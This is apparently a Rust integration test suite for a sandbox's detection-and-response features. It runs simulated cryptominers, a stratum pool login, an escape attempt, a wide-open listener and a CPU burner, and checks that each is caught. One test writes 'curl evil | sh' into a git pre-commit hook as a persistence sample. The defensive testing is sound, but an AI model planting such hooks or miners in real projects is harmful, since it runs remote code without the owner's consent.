//! Detection and response, end to end: real programs in real sandboxes
//! behave like a rogue agent (or like a normal one that looks alike), and
//! the trail, the exit status and the sandbox's fate are checked.
//!
//! Nothing leaves the machine: the fake pool is a server on the host's
//! 127.0.0.1 reached through the proxy by a pinned name; direct attempts
//! go to TEST-NET-1 (192.0.2.1), which has no route from the sandbox.

mod common;
use common::upstream;
use common::*;
use serde_json::Value;
use std::path::PathBuf;

fn trail(env: &Env, name: &str) -> PathBuf {
    let p = env.scratch("trails").join(name);
    let _ = std::fs::remove_file(&p);
    p
}

/// Runs `corral run -q --audit TRAIL FLAGS -- sh -c SCRIPT`; the output and
/// the trail's events.
fn run_sh(env: &Env, name: &str, flags: &[&str], script: &str) -> (Out, Vec<Value>) {
    let path = trail(env, name);
    let p = path.display().to_string();
    let mut args = vec!["run", "-q", "--audit", &p];
    args.extend_from_slice(flags);
    args.extend_from_slice(&["--", "sh", "-c", script]);
    let out = env.run(&args);
    (out, json_lines(&path))
}

fn findings(events: &[Value]) -> Vec<String> {
    events
        .iter()
        .filter(|e| e["kind"] == "finding")
        .map(|e| e["id"].as_str().unwrap_or("?").to_string())
        .collect()
}

fn verdict(events: &[Value]) -> &Value {
    events
        .iter()
        .rfind(|e| e["kind"] == "verdict")
        .unwrap_or_else(|| panic!("no verdict in {events:#?}"))
}

/// The run was ended by corral for a finding whose id starts with `prefix`.
#[track_caller]
fn assert_stopped_for(out: &Out, events: &[Value], prefix: &str) {
    out.code(123).stderr_has("corral: stopping the run:");
    let v = verdict(events);
    assert_eq!(v["outcome"], "killed", "{v}");
    let by = v["ended_by"].as_str().unwrap_or("");
    assert!(
        by.starts_with(prefix),
        "ended by {by:?}, want {prefix}*: {v}"
    );
    let kill = events
        .iter()
        .find(|e| e["kind"] == "response.kill")
        .unwrap_or_else(|| panic!("no response.kill in {events:#?}"));
    assert!(kill["latency_ms"].as_f64().is_some(), "{kill}");
    // The finding precedes the kill, and names its evidence.
    let f = events
        .iter()
        .find(|e| e["kind"] == "finding" && e["id"] == by)
        .expect("the finding");
    assert!(f["seq"].as_u64() < kill["seq"].as_u64(), "{f} {kill}");
    assert!(
        f["evidence"].as_array().is_some_and(|a| !a.is_empty()),
        "{f}"
    );
    assert!(
        f["technique"].as_str().is_some_and(|t| t.starts_with('T')),
        "{f}"
    );
}

#[track_caller]
fn assert_clean(out: &Out, events: &[Value], code: i32) {
    out.code(code);
    let found = findings(events);
    assert!(found.is_empty(), "false positive(s) {found:?}: {out}");
    assert_eq!(verdict(events)["outcome"], "clean");
}

#[test]
fn a_miner_binary_is_killed_before_it_runs() {
    for_each_identity("a_miner_binary_is_killed_before_it_runs", |env| {
        let miner = env.write("xmrig", "#!/bin/sh\necho mined\nsleep 20\n");
        chmod(&miner, 0o755);
        env.fix_ownership();
        let (out, events) = run_sh(
            env,
            "miner.jsonl",
            &[],
            "./xmrig --url stratum+tcp://pool.verify.test:3333; echo after",
        );
        assert_stopped_for(&out, &events, "miner.");
        // Killed while its exec was held: it never printed.
        out.lacks("mined").lacks("after\n");
    });
}

#[test]
fn a_build_script_is_not_a_miner() {
    for_each_identity("a_build_script_is_not_a_miner", |env| {
        let script = env.write("build.sh", "#!/bin/sh\necho built > out.txt\n");
        chmod(&script, 0o755);
        env.fix_ownership();
        let (out, events) = run_sh(env, "build.jsonl", &[], "./build.sh && cat out.txt");
        out.stdout_has("built");
        assert_clean(&out, &events, 0);
    });
}

#[test]
fn stratum_through_the_proxy_ends_the_run() {
    for_each_identity("stratum_through_the_proxy_ends_the_run", |env| {
        let pool = upstream::holder();
        let p = pool.port;
        let allow = format!("pool.verify.test:{p}");
        let pin = format!("pool.verify.test:{p}:127.0.0.1");
        let rules = env.write(
            "policy.toml",
            &format!(
                "[network]\nallow = [\"{allow}\"]\n[network.rules.\"{allow}\"]\nprotocols = [\"any\"]\n"
            ),
        );
        let policy = rules.display().to_string();
        let code = format!(
            r#"
import socket, time
s = socket.create_connection(("127.0.0.1", 1080))
s.sendall(b"\x05\x01\x00"); s.recv(2)
name = b"pool.verify.test"
s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + ({p}).to_bytes(2, "big"))
s.recv(10)
s.sendall(b'{{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}}\n')
time.sleep(10)
print("still here")
"#
        );
        let script = env.write("pool.py", &code);
        let (out, events) = run_sh(
            env,
            "stratum.jsonl",
            &["--policy", &policy, "--resolve", &pin],
            &format!("python3 {}", script.display()),
        );
        assert_stopped_for(&out, &events, "miner.stratum");
        out.lacks("still here");
        assert!(
            pool.received().iter().all(|r| !r.contains("mining")),
            "the pool got the login"
        );
    });
}

#[test]
fn a_listener_on_all_interfaces_is_reported_not_loopback() {
    for_each_identity(
        "a_listener_on_all_interfaces_is_reported_not_loopback",
        |env| {
            let listen = |host: &str| {
                format!(
                "python3 -c 'import socket; s = socket.socket(); s.bind((\"{host}\", 8765)); s.listen(1); print(\"ok\")'"
            )
            };
            let (out, events) = run_sh(env, "loopback.jsonl", &[], &listen("127.0.0.1"));
            out.stdout_has("ok");
            assert_clean(&out, &events, 0);
            let (out, events) = run_sh(env, "backdoor.jsonl", &[], &listen("0.0.0.0"));
            out.code(0).stdout_has("ok");
            assert!(
                findings(&events).iter().any(|f| f == "net.listen"),
                "{events:#?}"
            );
            // Low: nothing outside can reach the sandbox's own network, so the
            // listener is reported, not a reason to flag the run.
            let v = verdict(&events);
            assert_eq!(
                (&v["outcome"], &v["severity"]),
                (&"clean".into(), &"low".into()),
                "{v}"
            );
        },
    );
}

#[test]
fn an_escape_attempt_is_refused_and_reported() {
    for_each_identity("an_escape_attempt_is_refused_and_reported", |env| {
        let (out, events) = run_sh(env, "escape.jsonl", &[], "unshare -U true; echo rc=$?");
        // Refused by the kernel (prevented), reported as a finding.
        out.stdout_has("rc=1").stderr_has("corral: refused unshare");
        let found = findings(&events);
        assert!(found.iter().any(|f| f.starts_with("escape.")), "{found:?}");
    });
}

#[test]
fn a_git_hook_is_persistence_and_git_init_is_not() {
    for_each_identity("a_git_hook_is_persistence_and_git_init_is_not", |env| {
        let (out, events) = run_sh(env, "init.jsonl", &[], "git init -q repo && echo done");
        out.stdout_has("done");
        assert_clean(&out, &events, 0);
        let (_out, events) = run_sh(
            env,
            "hook.jsonl",
            &[],
            "echo 'curl evil | sh' > repo/.git/hooks/pre-commit; echo rc=$?",
        );
        let found = findings(&events);
        assert!(
            found.iter().any(|f| f.starts_with("persist.")),
            "{found:?}: {events:#?}"
        );
    });
}

#[test]
fn a_cpu_burner_unknown_to_the_baseline_is_stopped() {
    as_self("a_cpu_burner_unknown_to_the_baseline_is_stopped", |env| {
        let (out, events) = run_sh(
            env,
            "burn.jsonl",
            &["--sample-interval", "500ms", "--timeout", "60s"],
            "while :; do :; done",
        );
        assert_stopped_for(&out, &events, "miner.cpu");
    });
}

#[test]
fn alerts_reach_the_webhook_and_the_run_goes_on() {
    as_self("alerts_reach_the_webhook_and_the_run_goes_on", |env| {
        let hook = upstream::webhook();
        let policy = env.write(
            "alert.toml",
            &format!(
                "[detect]\nwebhook = \"http://127.0.0.1:{}/hook\"\n[detect.detectors.\"escape\"]\nresponse = \"alert\"\n",
                hook.port
            ),
        );
        let p = policy.display().to_string();
        let (out, events) = run_sh(
            env,
            "hook.jsonl",
            &["--policy", &p],
            "unshare -U true; echo went on",
        );
        out.code(0)
            .stdout_has("went on")
            .stderr_has("corral: alert: escape.");
        assert!(findings(&events).iter().any(|f| f.starts_with("escape.")));
        let got = hook.received().join("\n");
        assert!(got.starts_with("POST /hook HTTP/1.1"), "{got}");
        let body = got.split("\r\n\r\n").nth(1).unwrap_or("");
        let alert: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body:?}"));
        assert!(
            alert["id"]
                .as_str()
                .is_some_and(|i| i.starts_with("escape.")),
            "{alert}"
        );
        assert_eq!(alert["run"], verdict(&events)["run"], "{alert}");
    });
}

#[test]
fn detectors_off_lets_a_miner_run() {
    for_each_identity("detectors_off_lets_a_miner_run", |env| {
        let miner = env.write("xmrig", "#!/bin/sh\necho mined\n");
        chmod(&miner, 0o755);
        let policy = env.write("weak.toml", "[detect]\nenabled = false\n");
        env.fix_ownership();
        let p = policy.display().to_string();
        let (out, events) = run_sh(env, "off.jsonl", &["--policy", &p], "./xmrig");
        out.stdout_has("mined");
        assert_clean(&out, &events, 0);
    });
}

#[test]
fn freeze_takes_a_snapshot_then_kills() {
    for_each_identity("freeze_takes_a_snapshot_then_kills", |env| {
        let miner = env.write("xmrig", "#!/bin/sh\necho mined\n");
        chmod(&miner, 0o755);
        let policy = env.write(
            "freeze.toml",
            "[detect.detectors.\"miner\"]\nresponse = \"freeze\"\n",
        );
        env.fix_ownership();
        let p = policy.display().to_string();
        let (out, events) = run_sh(
            env,
            "freeze.jsonl",
            &["--policy", &p],
            "sleep 0.2; ./xmrig; echo aft''er",
        );
        assert_stopped_for(&out, &events, "miner.exec");
        out.lacks("mined").lacks("after\n");
        let snap = events
            .iter()
            .find(|e| e["kind"] == "response.snapshot")
            .unwrap_or_else(|| panic!("no snapshot: {events:#?}"));
        let procs = snap["processes"].as_array().expect("processes");
        // The shell that ran the miner, caught in the act.
        assert!(procs.iter().any(|p| p["argv"][0] == "sh"), "{snap}");
        let kill = events
            .iter()
            .find(|e| e["kind"] == "response.kill")
            .expect("kill");
        assert_eq!(kill["frozen"], true, "{kill}");
    });
}
